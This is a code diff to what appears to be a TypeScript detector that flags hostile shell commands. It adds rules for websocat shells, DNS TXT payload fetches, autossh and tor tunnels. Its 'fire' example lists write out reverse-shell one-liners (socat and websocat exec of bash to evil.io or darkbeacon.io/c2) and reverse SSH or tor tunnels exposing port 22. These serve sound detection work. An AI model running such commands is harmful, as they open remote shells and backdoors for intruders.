@@ -6,7 +6,7 @@ import { containerRunCommand, containerVerbAt, optionValue } from '../shell/comm
 
 export { SHELLS };
 import { classifyHost, destinationOf, EXFIL_KINDS, firstUrl, type Destination } from '../knowledge/hosts.js';
-import { isStagingPath } from '../knowledge/paths.js';
+import { canonicalPath, isStagingPath } from '../knowledge/paths.js';
 import { hostileText, writes } from './persistence.js';
 import { table } from '../knowledge/table.js';
 
@@ -205,7 +205,7 @@ function downloadExecsOf(input: AnalysisInput): DownloadExec[] {
     if ((runsCode(c) && readsStdin(c)) || (c.dynamic[0] && c.pipeFrom)) {
       let p = c.pipeFrom;
       for (let hop = 0; p && hop < 5; hop++, p = p.pipeFrom) {
-        if (isFetcher(p)) { out.push({ dest: urlOf(p), evidence: `${p.argv.join(' ')} | ${c.argv.join(' ')}` }); break; }
+        if (isFetcher(p) || txtLookup(p)) { out.push({ dest: urlOf(p), evidence: `${p.argv.join(' ')} | ${c.argv.join(' ')}` }); break; }
         if (!PASSTHROUGH.has(p.name)) break;
       }
     }
@@ -219,8 +219,10 @@ function downloadExecsOf(input: AnalysisInput): DownloadExec[] {
     if (c.dynamic[0] && substituted.length && c.argv[0]!.startsWith('$')) out.push({ dest: urlOf(substituted[0]!), evidence: c.argv[0]! });
     for (const [file, fetch] of saved) {
       // a downloaded file run directly, by a shell or interpreter, or installed as a package (`dpkg -i`, `rpm -i`, `installer -pkg`)
-      const target = runsCode(c) ? operands(c)[0] : INSTALLERS.has(c.name) ? operands(c).find((w) => w.includes('.')) : deployedCode(c) ?? editorExtension(c) ?? c.argv[0];
-      if (target && (target === file || (target.includes('/') && baseName(target) === baseName(file)))) { out.push({ dest: urlOf(fetch), evidence: `${fetch.argv.join(' ')} … ${c.argv.join(' ')}` }); saved.delete(file); break; }
+      const target = c.name === 'go' && c.argv[1] === 'run' ? operands(c)[1] : runsCode(c) ? operands(c)[0] : INSTALLERS.has(c.name) ? operands(c).find((w) => w.includes('.')) : deployedCode(c) ?? editorExtension(c) ?? c.argv[0];
+      // a bare name is the file when the line went into its directory first (`cd /tmp && go run agent.go`)
+      const here = target !== undefined && !target.includes('/') && cmds.some((x) => x.name === 'cd' && canonicalPath(x.argv[1] ?? '') === canonicalPath(file.slice(0, file.lastIndexOf('/'))));
+      if (target && (target === file || ((target.includes('/') || here) && baseName(target) === baseName(file)))) { out.push({ dest: urlOf(fetch), evidence: `${fetch.argv.join(' ')} … ${c.argv.join(' ')}` }); saved.delete(file); break; }
     }
     if (isFetcher(c)) { const f = savedFile(c); if (f) saved.set(f, c); }
   }
@@ -245,6 +247,12 @@ function downloadExecsOf(input: AnalysisInput): DownloadExec[] {
     }
   }
   return out;
+}
+
+/** `dig +short TXT cmd.example.net`: a DNS answer is whatever the domain's owner put there, as a download is. */
+function txtLookup(c: SimpleCommand): boolean {
+  if (c.name !== 'dig' && c.name !== 'host' && c.name !== 'nslookup' && c.name !== 'drill') return false;
+  return c.argv.some((w, k) => /^txt$/i.test(w) || /^-(?:q)?type=txt$/i.test(w) || (w === '-t' && /^txt$/i.test(c.argv[k + 1] ?? '')));
 }
 
 /** `${jndi:`, also with its letters built by lookups (`${${lower:j}ndi:`, `${j${::-n}di:`). */
@@ -384,6 +392,9 @@ const external = (host: string | undefined) => {
 const SENSITIVE_PORTS = new Set(['22', '23', '3389', '5900', '5432', '3306', '6379', '27017', '2375', '2376', '445', '139', '5985', '11211', '9200']);
 const portOf = (w: string | undefined) => (w ?? '').match(/(\d{1,5})\/?$/)?.[1];
 
+/** A websocat command address that starts a shell or interpreter. */
+const SHELLISH = /\b(?:ba|z|da|k)?sh\b|python|perl|ruby|php|node|cmd|powershell|pwsh/i;
+
 function tunnelExposure(c: SimpleCommand): string | undefined {
   const ops = operands(c);
   switch (c.name) {
@@ -403,8 +414,13 @@ function tunnelExposure(c: SimpleCommand): string | undefined {
     }
     case 'bore': case 'lt':
       return SENSITIVE_PORTS.has(ops[1] ?? portOf(c.argv[c.argv.indexOf('--port') + 1]) ?? '') ? c.argv.join(' ') : undefined;
+    // a hidden service hands a local port (SSH, a shell) to anyone who has the .onion name, past every firewall
+    case 'tor':
+      return c.argv.some((w) => /^--?HiddenServicePort$/i.test(w)) ? c.argv.join(' ') : undefined;
+    case 'autossh':
     case 'ssh': {
-      const { flags, host } = sshParse(c);
+      // autossh's own `-M port` (its monitoring port) takes a value, as ssh's -M does not
+      const { flags, host } = sshParse(c.name === 'autossh' ? { ...c, argv: c.argv.filter((w, k) => w !== '-M' && c.argv[k - 1] !== '-M') } : c);
       const remote = flags.get('R');
       if (!remote || !external(host)) return undefined;
       // a web port shared to a named host (a preview server, a tunnel service) is an alert (PX-C2-011);
@@ -515,10 +531,13 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-C2-004', name: 'socat-exec-over-network', score: 95, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
-    message: 'Connects a program to a network address with socat', why: 'socat EXEC:/bin/sh with a TCP or SSL address is a full interactive reverse or bind shell.',
-    commands: ['socat'],
-    test: (c) => (c.argv.some((w) => /^(exec|system):/i.test(w)) && c.argv.some((w) => NETWORK_ADDRESS.test(w)) ? c.argv.join(' ') : undefined),
-    examples: { fire: ["socat exec:'bash -li',pty,stderr,setsid tcp:45.33.12.7:4444", 'socat TCP:91.214.124.33:9443 EXEC:/bin/sh', 'sudo socat openssl-connect:evil.io:443,verify=0 exec:/bin/bash', 's\\o\\c\\a\\t TCP4-LISTEN:4444,fork EXEC:/bin/sh'], quiet: ['socat TCP-LISTEN:8080,fork TCP:localhost:3000', 'socat - UNIX-CONNECT:/var/run/docker.sock', 'socat -V'] },
+    message: 'Connects a program to a network address with socat or websocat', why: 'socat EXEC:/bin/sh with a TCP or SSL address, or websocat sh-c: with a WebSocket, is a full interactive reverse or bind shell.',
+    commands: ['socat', 'websocat'],
+    test: (c) => {
+      if (c.name === 'websocat') return c.argv.some((w) => /^(?:sh-c|exec|cmd):/i.test(w) && SHELLISH.test(w)) && c.argv.some((w) => /^(?:wss?|ws-l|ws-listen|tcp|tcp-l|tcp-listen):/i.test(w)) ? c.argv.join(' ') : undefined;
+      return c.argv.some((w) => /^(exec|system):/i.test(w)) && c.argv.some((w) => NETWORK_ADDRESS.test(w)) ? c.argv.join(' ') : undefined;
+    },
+    examples: { fire: ["socat exec:'bash -li',pty,stderr,setsid tcp:45.33.12.7:4444", 'socat TCP:91.214.124.33:9443 EXEC:/bin/sh', 'sudo socat openssl-connect:evil.io:443,verify=0 exec:/bin/bash', 's\\o\\c\\a\\t TCP4-LISTEN:4444,fork EXEC:/bin/sh', "websocat -E --binary ws://203.0.113.45:8080/tty sh-c:'exec bash -i 2>&1'", 'websocat wss://ws.darkbeacon.io/c2 exec:/bin/sh'], quiet: ['socat TCP-LISTEN:8080,fork TCP:localhost:3000', 'socat - UNIX-CONNECT:/var/run/docker.sock', 'socat -V', 'websocat ws://localhost:8080/ws', "websocat -s 8080 sh-c:'cat'"] },
   },
   {
     id: 'PX-C2-005', name: 'interpreter-reverse-shell', score: 95, tactic: 'command_and_control', technique: 'T1059.006', strong: true,
@@ -569,7 +588,7 @@ export const RULES: readonly Rule[] = [
     message: 'Opens a tunnel that exposes this machine to the internet', why: 'chisel, frp, ngrok tcp, cloudflared ssh:// and `ssh -R` to an outside host give a remote party a way in past the firewall.',
     alternative: 'Use the team VPN or a bastion host.',
     test: (c) => tunnelExposure(c),
-    examples: { fire: ['ngrok tcp 22 --authtoken x --log=false > /dev/null &', './chisel client 45.33.12.7:8000 R:socks', 'ssh -fNR 2222:localhost:22 tunnel@45.33.12.7', 'cloudflared tunnel --url ssh://localhost:22', 'ssh -o StrictHostKeyChecking=no -N -R 0.0.0.0:8080:10.0.0.5:5432 -p 443 x@evil.io &', 'gost -L=:8080 -F=socks5://45.33.12.7:1080'], quiet: ['ngrok http 3000', 'gost -L=http://127.0.0.1:8080', 'ssh -N -L 5433:localhost:5432 dev@bastion.internal', 'ssh -R 9000:localhost:9000 dev@build.internal', 'cloudflared --version'] },
+    examples: { fire: ['ngrok tcp 22 --authtoken x --log=false > /dev/null &', './chisel client 45.33.12.7:8000 R:socks', 'autossh -M 0 -f -N -R 9922:localhost:22 relay@203.0.113.31', 'tor --HiddenServiceDir /tmp/.hs --HiddenServicePort "2222 127.0.0.1:22" --RunAsDaemon 1', 'ssh -fNR 2222:localhost:22 tunnel@45.33.12.7', 'cloudflared tunnel --url ssh://localhost:22', 'ssh -o StrictHostKeyChecking=no -N -R 0.0.0.0:8080:10.0.0.5:5432 -p 443 x@evil.io &', 'gost -L=:8080 -F=socks5://45.33.12.7:1080'], quiet: ['autossh -M 0 -N -L 5432:db.internal:5432 dev@bastion.corp.example', 'tor --version', 'ngrok http 3000', 'gost -L=http://127.0.0.1:8080', 'ssh -N -L 5433:localhost:5432 dev@bastion.internal', 'ssh -R 9000:localhost:9000 dev@build.internal', 'cloudflared --version'] },
   },
   {
     id: 'PX-C2-010', name: 'opens-public-dev-tunnel', score: 50, tactic: 'command_and_control', technique: 'T1572',
